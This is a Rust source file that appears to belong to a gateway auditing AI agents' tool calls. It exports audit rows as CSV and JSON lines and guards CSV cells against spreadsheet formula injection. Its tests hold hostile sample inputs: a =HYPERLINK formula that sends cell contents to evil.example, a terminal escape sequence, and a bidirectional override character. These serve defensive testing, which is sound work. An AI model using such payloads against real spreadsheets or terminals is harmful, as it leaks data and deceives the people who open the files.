//! Audit rows as file text: the CSV and JSON lines that `portcullis audit --format csv|jsonl`
//! prints and the desktop viewer exports (DESIGN §7). One implementation, so both stay
//! byte-identical. Columns and keys are [`AuditRow::COLUMNS`], in that order; CSV adds `time`
//! after `time_ms`, the same instant as ISO-8601 UTC for the people who open it in a spreadsheet.
//!
//! CSV cells go through [`neutralize::csv_cell`]: the text columns (tool, client name, reason, …)
//! came from agents and servers, and a cell such as `=HYPERLINK(…)` would run as a formula in a
//! spreadsheet. JSON lines stay exact: JSON escaping already keeps control characters out, and
//! their readers are programs that want the recorded text.

use serde_json::Value;

use crate::{neutralize, AuditRow};

/// The CSV column the time is repeated in as ISO-8601 UTC, and the column it follows.
const CSV_TIME: &str = "time";
const CSV_TIME_AFTER: &str = "time_ms";

/// The CSV's columns: [`AuditRow::COLUMNS`] with [`CSV_TIME`] after `time_ms`.
fn csv_columns() -> impl Iterator<Item = &'static str> {
    AuditRow::COLUMNS
        .iter()
        .flat_map(|c| std::iter::once(*c).chain((*c == CSV_TIME_AFTER).then_some(CSV_TIME)))
}

/// The CSV header line (no newline).
pub fn csv_header() -> String {
    csv_columns().collect::<Vec<_>>().join(",")
}

/// `time_ms` as ISO-8601 UTC with milliseconds, e.g. `2026-12-01T16:40:12.345Z`.
pub fn iso_time(time_ms: i64) -> String {
    let since_epoch = std::time::Duration::from_millis(time_ms.max(0).unsigned_abs());
    humantime::format_rfc3339_millis(std::time::UNIX_EPOCH + since_epoch).to_string()
}

/// One row as a CSV line (no newline): RFC 4180 quoting, NULL as an empty cell, the arguments
/// as compact JSON, text guarded against formulas ([`neutralize::csv_cell`]).
pub fn csv_row(row: &AuditRow) -> String {
    let value = serde_json::to_value(row).unwrap_or_default();
    csv_columns()
        .map(|c| match value.get(c) {
            _ if c == CSV_TIME => iso_time(row.time_ms),
            None | Some(Value::Null) => String::new(),
            // Numbers are the gateway's own (ids, times, durations): `-1` is not a formula.
            Some(Value::Number(n)) => n.to_string(),
            Some(Value::String(s)) => neutralize::csv_cell(s),
            Some(other) => neutralize::csv_cell(&other.to_string()),
        })
        .collect::<Vec<_>>()
        .join(",")
}

/// One row as a JSON object on one line (no newline).
pub fn jsonl_row(row: &AuditRow) -> String {
    escape_line_separators(&serde_json::to_string(row).unwrap_or_default())
}

/// Header then rows, joined by newlines, with no trailing newline.
pub fn csv(rows: &[AuditRow]) -> String {
    std::iter::once(csv_header())
        .chain(rows.iter().map(csv_row))
        .collect::<Vec<_>>()
        .join("\n")
}

/// One line per row, joined by newlines, with no trailing newline.
pub fn jsonl(rows: &[AuditRow]) -> String {
    rows.iter().map(jsonl_row).collect::<Vec<_>>().join("\n")
}

/// JSON allows raw U+2028/U+2029 inside strings, but line readers that honour Unicode line
/// breaks would split a row there; escape them so one row stays one line.
fn escape_line_separators(line: &str) -> String {
    line.replace('\u{2028}', "\\u2028").replace('\u{2029}', "\\u2029")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{DecidedBy, Decision};

    fn row() -> AuditRow {
        AuditRow {
            id: 7,
            time_ms: 1_700_000_000_000,
            session: "s".into(),
            client_name: Some("claude, desktop".into()),
            client_version: None,
            server: "fs".into(),
            tool: "write_file".into(),
            arguments: serde_json::json!({"path": "/tmp/a\u{2028}b", "q": "say \"hi\""}),
            arguments_digest: "d".into(),
            decision: Decision::Approved,
            decided_by: DecidedBy::User,
            rule: Some("default".into()),
            reason: None,
            wait_ms: Some(1200),
            outcome: None,
            upstream_ms: None,
            request_id: Some("1".into()),
            original_arguments: None,
        }
    }

    #[test]
    fn csv_has_the_columns_and_quotes_what_needs_it() {
        let text = csv(&[row()]);
        let mut lines = text.lines();
        let header = lines.next().unwrap();
        assert!(header.starts_with("id,time_ms,time,session,"), "{header}");
        assert_eq!(header.split(',').count(), AuditRow::COLUMNS.len() + 1, "{header}");
        let line = lines.next().unwrap();
        assert!(
            line.starts_with("7,1700000000000,2023-11-14T22:13:20.000Z,s,\"claude, desktop\",,fs,write_file,"),
            "{line}"
        );
        assert!(line.contains(r#""{""path"":"#), "arguments are quoted JSON: {line}");
        assert!(line.ends_with("d,approved,user,default,,1200,,,1,"), "{line} (no original_arguments)");
        assert_eq!(csv(&[]), csv_header(), "no rows: the header alone");
    }

    #[test]
    fn iso_times_are_utc_with_milliseconds() {
        assert_eq!(iso_time(0), "1970-01-01T00:00:00.000Z");
        assert_eq!(iso_time(1_764_607_212_345), "2025-12-01T16:40:12.345Z");
        assert_eq!(iso_time(-5), "1970-01-01T00:00:00.000Z", "a clock before 1970 is not a panic");
    }

    #[test]
    fn csv_guards_hostile_text_and_jsonl_keeps_it_exact() {
        let mut hostile = row();
        hostile.tool = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")".into();
        hostile.client_name = Some("@cmd\u{1b}]0;pwned\u{7}".into());
        hostile.reason = Some("-2+3\u{202e}".into());
        let line = csv_row(&hostile);
        assert!(
            line.contains(r#",fs,"'=HYPERLINK(""https://evil.example/?""&A1,""open"")","#),
            "{line}"
        );
        assert!(line.contains(r",'@cmd\u{1b}]0;pwned\u{7},"), "{line}");
        assert!(line.contains(r",'-2+3\u{202e},"), "{line}");
        assert!(!line.contains('\u{1b}') && !line.contains('\u{202e}'), "{line}");
        let back: AuditRow = serde_json::from_str(&jsonl_row(&hostile)).unwrap();
        assert_eq!(back, hostile, "JSON lines carry the exact text");
    }

    #[test]
    fn jsonl_is_one_object_per_line_even_with_unicode_line_separators() {
        let text = jsonl(&[row(), row()]);
        assert_eq!(text.split('\n').count(), 2);
        assert!(!text.contains('\u{2028}'));
        let back: AuditRow = serde_json::from_str(text.split('\n').next().unwrap()).unwrap();
        assert_eq!(back, row());
        assert_eq!(jsonl(&[]), "");
    }
}
